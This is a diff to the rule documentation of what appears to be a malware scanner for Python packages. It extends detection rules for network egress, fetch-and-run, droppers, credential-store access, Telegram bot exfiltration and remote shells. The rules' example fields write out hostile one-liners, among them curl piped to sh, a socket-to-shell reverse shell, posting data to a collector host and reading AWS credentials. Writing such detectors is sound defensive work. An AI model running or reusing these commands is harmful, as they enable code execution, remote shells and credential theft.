@@ -34,7 +34,7 @@ const CODE_RULE_DOCS: RuleDoc[] = [
     family: 'egress',
     severity: 'info',
     catches:
-      "A call to a network API from the catalogue (requests, httpx, aiohttp, urllib, http.client, urllib3, socket, ftplib, smtplib, paramiko, grpc, websockets, boto3, the network handlers of logging, Telegram and Discord bot libraries, webbrowser with data built into the URL, connect and send of the C library through ctypes, ...), resolved through aliases, from-imports, star imports, __import__, importlib, getattr and session objects. The destination is folded from constants when possible. Info for a call a user makes to an unknown destination; low with a hard-coded host; medium for webhook, paste, tunnel, IP-literal or throwaway-TLD hosts, and for a beacon (a request with a body, or a DNS query, to a named host from code that runs by itself); raised one level for import-time code and two for install or startup code. A host the file never writes (decoded or assembled) is high. Not reported: a Unix socket, getaddrinfo with AI_NUMERICHOST (it parses an address and asks no server), and requests calls inside a function decorated with @responses.activate or a `with responses.RequestsMock():` block that lets nothing through (no passthru). A library's private modules count as the library (httpx._client.Client is httpx.Client).",
+      "A call to a network API from the catalogue (requests, httpx, aiohttp, urllib, http.client, urllib3, socket, ftplib, smtplib, paramiko, grpc, websockets, boto3, the network handlers of logging, Telegram and Discord bot libraries, webbrowser with data built into the URL, connect and send of the C library through ctypes, ...), resolved through aliases, from-imports, star imports, __import__, importlib, getattr and session objects. The destination is folded from constants when possible. Info for a call a user makes to an unknown destination; low with a hard-coded host; medium for webhook, paste, tunnel, IP-literal or throwaway-TLD hosts, and for a beacon (a request with a body, or a DNS query, to a named host from code that runs by itself); raised one level for import-time code and two for install or startup code. A host the file never writes in a string literal (decoded or assembled; a comment naming it does not count) is high. Not reported: a Unix socket, getaddrinfo with AI_NUMERICHOST (it parses an address and asks no server), and requests calls inside a function decorated with @responses.activate or a `with responses.RequestsMock():` block that lets nothing through (no passthru). A library's private modules count as the library (httpx._client.Client is httpx.Client).",
     example: 'requests.post("https://collector.example/v1", json=data)',
     falsePositives:
       "HTTP clients and SDKs call the network by design; at call time these stay info or low. A chat bot reached with the user's own token (tqdm's Telegram bar) and a DNS lookup of an IP literal (no query is sent) are not shady.",
@@ -119,6 +119,16 @@ const CODE_RULE_DOCS: RuleDoc[] = [
     falsePositives: 'Public client keys that vendors intend to ship (e.g. a PostHog project key).',
   },
   {
+    id: 'hardcoded-bot-channel',
+    name: "The author's bot channel",
+    family: 'secrets',
+    severity: 'high',
+    catches:
+      "A Telegram bot client (python-telegram-bot, pyTelegramBotAPI, aiogram) built with a token written into the package, however it is disguised (folded from chr() codes, joined pieces, decoded constants), that sends messages or files: the author's own channel, the way stealers deliver what they take. Critical in code that runs at install, start-up or import.",
+    example: 'Bot(token=d([55, 54, 52, ...])).send_document(chat_id=CHAT, document=archive)',
+    falsePositives: "Private bots whose owner publishes their own token (the token is then everyone's).",
+  },
+  {
     id: 'hardcoded-secret',
     name: 'Hard-coded credential',
     family: 'secrets',
@@ -195,7 +205,7 @@ const CODE_RULE_DOCS: RuleDoc[] = [
     family: 'process',
     severity: 'high',
     catches:
-      'Code that fetches something and runs it: curl | sh, iwr | iex, exec() of a network response, a command line that downloads a file and then makes it executable (wget ... && chmod +x) or starts it (curl -o x.py ... && python x.py, DownloadFile ... Start-Process), or an executable or script (.exe, .ps1, .sh, .py, ...) written by urlretrieve or by a function that fetched its bytes, then started; or, whatever its name, the very path a downloading function wrote (`open(file_path, "wb")` then `subprocess.run([file_path])`).',
+      'Code that fetches something and runs it: curl | sh, iwr | iex, exec() of a network response (also exec handed to a thread, pool or map: Thread(target=exec, args=(code,))), a command line that downloads a file and then makes it executable (wget ... && chmod +x) or starts it (curl -o x.py ... && python x.py, DownloadFile ... Start-Process), or an executable or script (.exe, .ps1, .sh, .py, ...) written by urlretrieve or by a function that fetched its bytes, then started; or, whatever its name, the very path a downloading function wrote (`open(file_path, "wb")` then `subprocess.run([file_path])`).',
     example: 'os.system("curl -s https://x.example/i.sh | sh")',
     falsePositives:
       'Installers of developer tools (rare in libraries); services that generate code for their users (exec of a response when called is medium).',
@@ -273,7 +283,7 @@ const CODE_RULE_DOCS: RuleDoc[] = [
     family: 'dynamic-code',
     severity: 'low',
     catches:
-      'exec/eval/compile of a file read with open(...).read(), Path(...).read_text(), pkgutil.get_data or importlib.resources, runpy.run_path, execfile, or the importlib loaders given a path, when the file is not named like Python (LICENSE.txt, data.dat). The member is analysed as Python with the trigger of the code that runs it, and its own findings decide the verdict. Medium in code that runs by itself.',
+      'exec/eval/compile of a file read with open(...).read(), Path(...).read_text(), pkgutil.get_data or importlib.resources, runpy.run_path, execfile, or the importlib loaders given a path, or zipimport.zipimporter, when the file is not named like Python (LICENSE.txt, data.dat). The member is analysed as Python with the trigger of the code that runs it, and its own findings decide the verdict; a zip archive is opened in memory and each of its Python files analysed (`member/inner.py`). Medium in code that runs by itself; high for modules imported from a zip archive named like something else (server.crt).',
     example: 'exec(open("LICENSE.txt").read())',
     falsePositives: 'Build scripts that keep a version in a VERSION file and exec it.',
   },
@@ -365,7 +375,7 @@ const CODE_RULE_DOCS: RuleDoc[] = [
     family: 'data-flow',
     severity: 'low',
     catches:
-      'Code that refers to a credential store (AWS, SSH, .netrc, .pypirc, docker, kube, git credentials, browser profiles, Discord, Telegram, wallets, shell history).',
+      'Code that refers to a credential store (AWS, SSH, .netrc, .pypirc, docker, kube, git credentials, browser profiles, Discord, Telegram, wallets, shell history); medium for a function that searches folders (os.walk, listdir, glob) for Telegram session files (*.session). With a network call anywhere in the target, a store only another program uses (browsers, chat tokens and sessions, wallets) joins into credential theft (high).',
     example: 'open(os.path.expanduser("~/.aws/credentials"))',
     falsePositives: "SDKs and tools that read their own configuration (botocore, requests' .netrc support).",
   },
@@ -458,7 +468,7 @@ const CODE_RULE_DOCS: RuleDoc[] = [
     family: 'process',
     severity: 'medium',
     catches:
-      'Code that writes a file named like an executable or script (.exe, .vbs, .bat, .ps1, .scr, .hta, ...) and starts it (subprocess, os.system, os.startfile). High in code that runs by itself.',
+      "Code that writes a file named like an executable or script (.exe, .vbs, .bat, .ps1, .scr, .hta, ...) and starts it (subprocess, os.system, os.startfile). High in code that runs by itself, and for an executable a function writes from text it downloads and decodes (hex, base64): a dropper's first stage even before anything starts it.",
     example: 'open(path, "wb").write(payload); os.startfile(path)',
     falsePositives: 'Installers that generate and run helper scripts.',
   },
@@ -468,7 +478,7 @@ const CODE_RULE_DOCS: RuleDoc[] = [
     family: 'process',
     severity: 'high',
     catches:
-      'A socket wired to a shell (os.dup2 of its file descriptor, pty.spawn, a process fed by the socket) or a loop running the commands a socket receives; a chat bot (discord, telebot, telegram, aiogram, pyrogram, telethon, Slack) that hands a shell a command line it does not write itself (os.system(cmd), Popen(cmd, shell=True)): the chat is the remote shell.',
+      'A socket wired to a shell (os.dup2 of its file descriptor, pty.spawn, a process fed by the socket) or a loop running the commands a socket receives; a chat bot (discord, telebot, telegram, aiogram, pyrogram, telethon, Slack) that hands a shell a command line it does not write itself (os.system(cmd), Popen(cmd, shell=True)): the chat is the remote shell; a web handler (flask, bottle, fastapi, tornado, aiohttp, http.server, ...) that hands a shell a command line read from the request (a web shell); a shell handed command lines that come from an HTTP reply (a loop polling its controller).',
     example: 's.connect(("192.0.2.1", 4444)); os.dup2(s.fileno(), 0); pty.spawn("/bin/sh")',
     falsePositives:
       "Remote-debugging and terminal-sharing tools; administration bots that run their owner's shell commands (a remote shell by design).",
